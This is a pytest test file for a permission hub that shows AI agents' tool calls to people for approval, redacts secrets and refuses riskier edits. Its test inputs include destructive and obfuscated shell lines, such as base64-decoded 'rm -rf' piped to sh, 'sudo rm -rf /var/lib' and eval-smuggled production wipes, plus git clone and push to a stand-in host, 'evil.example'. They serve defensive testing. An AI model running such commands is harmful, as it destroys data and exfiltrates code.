"""What an ask is about, as the hub draws it."""

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any, cast

import pytest
from msgspec import structs

from assent.harnesses import claude_code, codex, registry
from assent.harnesses.base import Harness
from assent.hub.asking.case import NOT_KEPT, HubCase
from assent.hub.pipeline.arrival import Arrival
from assent.hub.pipeline.drafts import Drafts
from assent.hub.recorder import Live
from assent.policy.call import Memo, Scene
from assent.policy.judge import judge
from assent.policy.judges.stance import Stance
from assent.protocol.decision import Allow, NoOpinion, Prompt
from assent.protocol.envelope import SILENT
from assent.protocol.events import PermissionRequest, PreToolUse, ToolEvent
from assent.redact import Redactor
from tests import toy_harness

TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0" * 2


Make = Callable[..., HubCase]


@pytest.fixture
def case(tmp_path: Path) -> Make:
    def make(tool: str = "Bash", kind: type[ToolEvent] = PermissionRequest, **given: Any) -> HubCase:
        event = kind(session_id="s", cwd=str(tmp_path), tool_name=tool, tool_input=given)
        voices = (Stance(lambda _: "balanced"),)
        judgement = judge(event, Scene(tmp_path), voices, memo=Memo())
        return HubCase(
            arrival=Arrival("claude-code", event.name, b"", "shim", "r"),
            call="c",
            tool_use_id="t",
            way="beside",
            module=claude_code,
            judgement=replace(judgement, verdict=structs.replace(judgement.verdict, decision=Prompt("Look at it."))),
            voices=voices,
            drafts=Drafts(Redactor(lambda secret: f"{sum(secret):08x}")),
            live=Live(),
        )

    return make


def test_same_call_has_the_same_hash_and_another_has_another(case: Make) -> None:
    """Answers are bound to it."""
    assert case(command="npm test").draw().hash == case(command="npm test").draw().hash
    assert case(command="npm test").draw().hash != case(command="npm  test").draw().hash


def test_call_is_read_anew_when_a_person_answers(case: Make) -> None:
    """Not taken from a line that was read before."""
    asked = case(command="npm test")
    before = asked.judgement.call
    asked.redraw()
    assert before is not None
    assert asked.judgement.call is not None
    assert before.memo is not None
    assert asked.judgement.call.memo is None
    assert asked.judgement.acts is not before.look(asked.judgement.scene).acts


def test_card_says_where_a_yes_is_not_the_last_word(case: Make) -> None:
    """Of a client whose own check follows, unless it has no person who could be asked by it."""
    asked = case(command="npm test", kind=PreToolUse)
    other = replace(asked, module=registry.HARNESSES["gemini"])
    assert "asks_itself" not in asked.draw().card.flags
    assert "asks_itself" in other.draw().card.flags
    judgement = replace(asked.judgement, scene=structs.replace(asked.judgement.scene, attended=False))
    assert "asks_itself" not in replace(other, judgement=judgement).draw().card.flags


def test_time_a_person_took_is_not_the_hubs(case: Make, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is recorded is how long the hub had it before it asked."""
    asked = case(command="npm test")
    before = asked.took_us
    monkeypatch.setattr("time.perf_counter_ns", lambda: asked.arrival.came + 60_000_000_000)
    (draft,) = asked.decided(NoOpinion("handed_back"), "person:desk", "kfmzt")
    assert draft.body["took_us"] == before < 60_000_000


def test_secret_is_a_mark_wherever_the_card_shows_it(case: Make) -> None:
    """In the command, in its parts, in the raw input and in what the agent says."""
    drawn = case(command=f"curl -H 'Authorization: Bearer {TOKEN}' https://example.com", description=TOKEN).draw()
    assert TOKEN not in str(drawn.card)
    assert "redacted" in drawn.card.flags


@pytest.mark.parametrize(
    ("command", "runs"),
    [
        ("PASSWORD='python3 deploy.py --wipe-prod' ; eval \"$PASSWORD\"", "python3 deploy.py --wipe-prod"),
        ("PASSWORD='./deploy.sh --prod --yes' bash -c '$PASSWORD'", "./deploy.sh --prod --yes"),
        ("PASSWORD=`rm -rf ~/x` true", "`rm -rf ~/x`"),
        ("TOKEN='cm0gLXJmIH4veA=='; echo $TOKEN|base64 -d|sh", "cm0gLXJmIH4veA=="),
        ("TOKEN=cm0gLXJmIH4veA && ./run $TOKEN", "cm0gLXJmIH4veA"),
    ],
)
def test_card_shows_what_runs_part_by_part(case: Make, command: str, runs: str) -> None:
    """A variable set in one part of the line and read in another keeps its value on the card."""
    view = case(command=command).draw().card.view
    assert "".join(segment.text for segment in view.segments) == command
    assert runs in view.raw["command"]


def test_heading_tells_what_is_run_not_what_is_printed(case: Make) -> None:
    """What the line itself put into a variable is no secret that it prints."""
    card = case(command="TOKEN='cm0gLXJmIH4veA=='; echo $TOKEN|base64 -d|sh").draw().card
    assert card.view.verb == "Run hidden text"
    assert "Print the secret" in case(command="echo $TOKEN").draw().card.view.verb


@pytest.mark.parametrize("user", ["token", "password", "secret"])
def test_heading_names_the_host_whatever_the_user_is_called(case: Make, user: str) -> None:
    """The address that code comes from or goes to is never part of a mark."""
    for command in ("git clone https://{}:x@evil.example/r", "git push https://{}:x@evil.example/r main"):
        assert "@evil.example/r" in case(command=command.format(user)).draw().card.view.verb


def test_cut_heading_keeps_no_piece_of_a_secret(case: Make) -> None:
    """A long name or line is cut before it is redacted, and what is left of a secret is a mark all the same."""
    for here in (
        case(tool=f"mcp__a_rather_long_server_{TOKEN}__run", a=1),
        case(command=f"make deploy to the staging environment TOKEN={TOKEN}"),
    ):
        drawn = here.draw()
        assert TOKEN[-8:] not in drawn.card.view.verb
        assert TOKEN[-8:] not in str(here.stored(drawn.card))


def test_mark_in_an_edit_becomes_what_it_stands_for(case: Make) -> None:
    """People edit around a secret that they never see."""
    here = case(command=f"curl -H 'Authorization: Bearer {TOKEN}' https://example.com/a")
    shown = here.draw().card.view.raw["command"]
    assert TOKEN not in shown
    edited = {"command": shown.replace("/a", "/b")}
    assert here.restored(edited)["command"] == f"curl -H 'Authorization: Bearer {TOKEN}' https://example.com/b"


def test_mark_of_something_else_is_not_taken_for_a_word(case: Make) -> None:
    """What would run with a mark in it is refused."""
    here = case(command="npm test")
    edited = here.restored({"command": "echo ⟨token:deadbeef⟩"})
    assert here.edit_refused(here.draw(), edited)


def test_edit_may_make_a_call_safer_and_never_worse(case: Make) -> None:
    """What a person was shown is the most they said yes to."""
    here = case(command="npm install left-pad")
    drawn = here.draw()
    assert here.edit_refused(drawn, {"command": "npm ls"}) is None
    assert here.edit_refused(drawn, {"command": "npm install right-pad"}) is None
    assert "danger" in (here.edit_refused(drawn, {"command": "sudo rm -rf /var/lib"}) or "")


def test_what_is_written_into_files_is_shown_and_never_on_record(case: Make, tmp_path: Path) -> None:
    """The record tells how much was written where; the hash stands for what."""
    content = "".join(f"line {number}\n" for number in range(500))
    here = case("Write", file_path=str(tmp_path / "a.txt"), content=content)
    card = here.draw().card
    assert sum(len(hunk.lines) for diff in card.view.diffs for hunk in diff.hunks) >= 500
    (stored,) = here.stored(card)["view"]["diffs"]
    assert (stored["added"], stored["note"]) == (500, NOT_KEPT)
    assert "line 4" not in str(here.stored(card))


def test_undecided_call_is_silence_only_where_silence_runs_nothing(case: Make) -> None:
    """A held PreToolUse falls back to what the policy wanted."""
    nothing = NoOpinion("timed_out")
    assert case(command="x").undecided(nothing) == nothing
    assert case(kind=PreToolUse, command="x").undecided(nothing) == Prompt("Look at it.")


@pytest.mark.parametrize("grant", ["rule:Bash(git push *)", "rule:Bash"])
def test_danger_is_granted_exactly_or_not_at_all(case: Make, grant: str) -> None:
    """A wildcard over what cannot be undone is refused with a reason."""
    with pytest.raises(ValueError, match=r"exact rule|not granted"):
        case(command="git push --force origin main").grant_of(grant, "session")


@pytest.mark.parametrize(
    ("command", "folders"),
    [
        ("cat /srv/data/a.csv", ("/srv/data",)),
        ("cat /srv/data/a.csv | wc -l; head /srv/data/b.csv /opt/x/c", ("/srv/data", "/opt/x")),
        ("cat ~/notes.txt", ()),
        ("cat /srv/data/.env", ()),
        ("cat /srv/data/*", ()),
        ("cat a.csv", ()),
        ("cat /x", ()),
    ],
)
def test_folders_read_outside_the_project_can_be_added(case: Make, command: str, folders: tuple[str, ...]) -> None:
    """Never the home, the root, or what a pattern names; nothing beside what is Danger."""
    assert case(command=command).outside_reads() == folders


def test_yes_before_a_call_may_be_silence(case: Make) -> None:
    """Where the client runs what is not refused; elsewhere such an answer is not taken."""
    held = case(kind=PreToolUse, command="make")
    held.module = cast("Harness", codex)
    assert held.encode(Allow()) == (SILENT, ())
    held.module = cast("Harness", toy_harness)
    assert held.encode(Allow())[1] != ()
